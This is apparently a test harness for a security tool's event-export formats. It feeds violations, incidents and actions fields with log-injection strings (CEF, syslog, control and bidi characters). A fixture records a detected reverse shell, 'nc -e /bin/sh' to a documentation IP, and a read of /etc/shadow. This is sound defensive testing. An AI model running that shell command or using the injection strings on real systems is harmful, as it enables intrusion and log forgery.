import { describe, expect, it } from '@jest/globals';
import { digestId, type Action, type Digest, type Incident, type Violation } from '@tocsin/domain';
import { buildIncident, buildViolation } from '@tocsin/testing';
import fc from 'fast-check';
import type { Content, Format, FormatInput } from './format.js';

export interface FormatHarness {
  format: Format;
  mediaType: string;
  /**
   * Reads back what was written, by the rules of the format and not by the code that wrote it: the message of a
   * violation, the reason of an incident or an action as the format's readers will see it, and how many fields there are.
   */
  read(content: Content, events: FormatInput['events']): { text: string; fields: number };
  /** What the format does to text that it cannot hold; it does nothing when absent. */
  expected?(text: string): string;
}

/** What attackers put into names and command lines. */
export const HOSTILE: [name: string, text: string][] = [
  ['line ends', 'first\nsecond\r\nthird\rfourth'],
  ['pipes', '|a||b|CEF:0|x|y|'],
  ['equals signs', 'a=b src=10.0.0.1 =c='],
  ['backslashes', '\\ \\n \\| \\= C:\\dir\\ end\\'],
  ['quotes and braces', '"}], "severity_id": 1, {\' <b>&amp;</b> {{ violation.raw }} {% raw %}'],
  ['tabs and carets', 'a\tsev=1\tb^sev=1^c'],
  ['NUL', 'a\u0000b'],
  ['controls', '\u0001\u0007\u001b[31mred\u007f\u0085\u009b'],
  ['separators of lines', 'a\u2028b\u2029c'],
  ['emoji', '😀👩‍👩‍👧‍👦 ﷽'],
  ['text from right to left', '\u202egnp.exe\u202c العربية'],
  ['half a character', 'a\ud800b'],
  ['names of prototypes', '__proto__ constructor'],
  ['a message of syslog', '\n<13>1 - - - - - - x\n25 <13>1 '],
  ['64 KB', 'é= '.repeat(21_846)],
];

/** What every format must hold; see `format.ts`. */
export function runFormatContract(name: string, { format, mediaType, read, expected = (text) => text }: FormatHarness): void {
  describe(`${name}, as every format`, () => {
    it.each(STORIES)('writes %s, the same each time', (_name, input) => {
      const content = format.write(input);
      expect(content.mediaType).toBe(mediaType);
      expect(content.body.toString()).toContain(input.data.id);
      expect(read(content, input.events).text).toBe(expected(textOf(input)));
      expect(format.write(input)).toEqual(content);
    });

    it.each(KINDS.flatMap((kind) => HOSTILE.map(([what, text]) => [kind, what, text] as const)))(
      'keeps %s with %s in their fields',
      (kind, _what, text) => {
        const plain = read(format.write(withText(kind, 'plain')), kind);
        const hostile = read(format.write(withText(kind, text)), kind);
        // JSON can say half a character; nobody else can.
        expect(hostile.text.toWellFormed()).toBe(expected(text.toWellFormed()));
        expect(hostile.fields).toBe(plain.fields);
      },
    );

    it.each(KINDS)('keeps any text with %s in its fields', (kind) => {
      const { fields } = read(format.write(withText(kind, 'plain')), kind);
      const anything = fc.string({ unit: 'binary', minLength: 1, maxLength: 60 });
      const nasty = fc.string({
        unit: fc.constantFrom('|', '=', '\\', '\n', '\r', '\t', '^', '"', ' ', 'a', '{', '}', '\u0000', '\u2028'),
        minLength: 1,
      });
      fc.assert(
        fc.property(fc.oneof(anything, nasty), (text) => {
          const found = read(format.write(withText(kind, text)), kind);
          expect({ text: found.text.toWellFormed(), fields: found.fields }).toEqual({ text: expected(text.toWellFormed()), fields });
        }),
      );
    });
  });
}

const KINDS = ['violations', 'incidents', 'actions', 'digests'] as const;

/** An event with this text wherever an attacker can have one. */
export function withText(kind: FormatInput['events'], text: string): FormatInput {
  switch (kind) {
    case 'violations':
      return input(kind, hostileViolation(text));
    case 'incidents':
      return input(kind, {
        ...buildIncident(),
        title: text,
        reason: text,
        comment: text,
        cluster: text,
        assignee: text,
        group: { 'workload.namespace': text, 'pod.name': text },
        entities: [{ type: 'pod', name: text }],
        attacks: [{ tactic: text, technique: text }],
      });
    case 'actions':
      return input(kind, {
        ...buildAction(),
        reason: text,
        target: { type: 'pod', name: text },
        actor: text,
        comment: text,
        plan: { summary: text, scope: { cluster: text, namespace: text, node: text }, changes: [text], warnings: [], details: { x: text } },
      });
    case 'digests':
      return input(kind, hostileDigest(text));
  }
}

export function buildDigest(parts: Partial<Digest> = {}): Digest {
  return {
    schema: 1,
    id: digestId('soc', '{}', 1),
    subscription: 'soc',
    events: 'violations',
    reason: 'storm',
    summary: '400 violations in 1 minute: shell (390) and others.',
    group: {},
    count: 400,
    severity_id: 4,
    severities: { medium: 390, high: 10 },
    names: { values: [{ value: 'shell', count: 390 }], others: 10 },
    workloads: { values: [{ value: 'shop/web', count: 400 }], others: 0 },
    sample: [],
    first_seen: '2026-09-14T14:02:11.123Z',
    last_seen: '2026-09-14T14:03:11.123Z',
    time: '2026-09-14T14:03:12.000Z',
    ...parts,
  };
}

function hostileDigest(text: string): Digest {
  const talkers = { values: [{ value: text, count: 400 }], others: 0 };
  const group = { 'workload.namespace': text, 'workload.name': text };
  return buildDigest({ summary: text, group, names: talkers, workloads: talkers });
}

function hostileViolation(text: string): Violation {
  return {
    ...buildViolation(),
    name: text,
    message: text,
    cluster: text,
    workload: { namespace: text, name: text },
    pod: { name: text, uid: text },
    container: { id: text, name: text },
    image: { name: text, tag: text, digest: text },
    node: { name: text },
    user: { name: text, uid: 0 },
    process: { name: text, path: text, cmd_line: text, pid: 1, parent: { name: text, cmd_line: text } },
    file: { path: text },
    src_endpoint: { ip: text, port: 1, hostname: text, workload: text, namespace: text },
    dst_endpoint: { ip: text, port: 1, hostname: text },
    protocol: text,
    attacks: [{ tactic: text, technique: text }],
    tags: [text],
    labels: { [text]: text },
    raw: text,
  };
}

export function input(events: 'violations', data: Violation): FormatInput;
export function input(events: 'incidents', data: Incident): FormatInput;
export function input(events: 'actions', data: Action): FormatInput;
export function input(events: 'digests', data: Digest): FormatInput;
export function input(events: FormatInput['events'], data: FormatInput['data']): FormatInput {
  const type = { violations: 'violation', incidents: 'incident', actions: 'action', digests: 'digest' }[events];
  const attributes = { id: `${data.id}/1`, type: `dev.tocsin.${type}.v1`, source: '/tocsin/test', time: '2026-09-14T14:02:11.123Z' };
  return { events, data, attributes, body: Buffer.from(JSON.stringify(data)) } as FormatInput;
}

export function buildAction(parts: Partial<Action> = {}): Action {
  return {
    schema: 1,
    id: 'ca454d98-94eb-531f-af54-d50fbd05b364',
    version: 3,
    state: 'active',
    policy: 'contain-miners',
    step: 'quarantine',
    type: 'quarantine',
    target: { type: 'pod', name: 'shop/web-1' },
    cluster: 'test',
    incident: '70acb539-15c2-5207-a716-57dc0960ba11',
    severity_id: 5,
    mode: 'auto',
    reason: 'The policy allows it, and all limits are kept.',
    time: '2026-09-14T14:02:13.000Z',
    created_at: '2026-09-14T14:02:12.000Z',
    started_at: '2026-09-14T14:02:13.000Z',
    expires_at: '2026-09-14T18:02:13.000Z',
    plan: {
      summary: 'Cuts the pod shop/web-1 off the network.',
      scope: { cluster: 'test', namespace: 'shop', node: 'worker-1', pod: { name: 'web-1', uid: '6b1c7c1e-0000-4000-8000-000000000001' } },
      changes: ['NetworkPolicy shop/tocsin-web-1 is made'],
      warnings: [],
      details: {},
    },
    ...parts,
  };
}

/** A violation of which everything is known. */
export const FULL_VIOLATION: Violation = buildViolation({
  received_time: '2026-09-14T14:02:12.000Z',
  pod: { name: 'web-1', uid: '6b1c7c1e-0000-4000-8000-000000000001' },
  container: { id: 'f00ba4', name: 'web' },
  image: { name: 'registry.example.com/shop/web', tag: '1.2', digest: `sha256:${'0'.repeat(64)}` },
  node: { name: 'worker-1' },
  user: { name: 'root', uid: 0 },
  process: { name: 'nc', path: '/usr/bin/nc', cmd_line: 'nc -e /bin/sh 203.0.113.9 4444', pid: 4711, parent: { name: 'sh', pid: 4700 } },
  file: { path: '/etc/shadow' },
  src_endpoint: { ip: '10.1.2.3', port: 51_234, workload: 'web', namespace: 'shop' },
  dst_endpoint: { ip: '2001:db8::9', port: 4444, hostname: 'c2.example.com' },
  protocol: 'tcp',
  disposition: 'Blocked',
  attacks: [{ tactic: 'command_and_control', technique: 'T1059.004' }, { tactic: 'execution' }],
  tags: ['shell'],
  labels: { team: 'shop' },
});

const STORIES: [string, FormatInput][] = [
  ['a violation', input('violations', buildViolation())],
  ['a violation of which everything is known', input('violations', FULL_VIOLATION)],
  ['an incident', input('incidents', buildIncident())],
  [
    'a resolved incident',
    input(
      'incidents',
      buildIncident({
        status: 'resolved',
        change: 'resolved',
        resolution: { reason: 'false_positive', by: 'ann', time: '2026-09-14T15:00:00.000Z' },
        assignee: 'ann',
        violations: [{ id: FULL_VIOLATION.id, time: FULL_VIOLATION.time }],
      }),
    ),
  ],
  ['an action', input('actions', buildAction())],
  ['a digest', input('digests', buildDigest())],
  ['a refused action', input('actions', buildAction({ state: 'refused', refused_by: 'target_gone', type: 'x-own' }))],
];

/** Where the text for people stands in the JSON of an event. */
export const TEXT = { violations: 'message', incidents: 'reason', actions: 'reason', digests: 'summary' } as const;

function textOf({ events, data }: FormatInput): string {
  return (data as unknown as Record<string, string>)[TEXT[events]] ?? '';
}
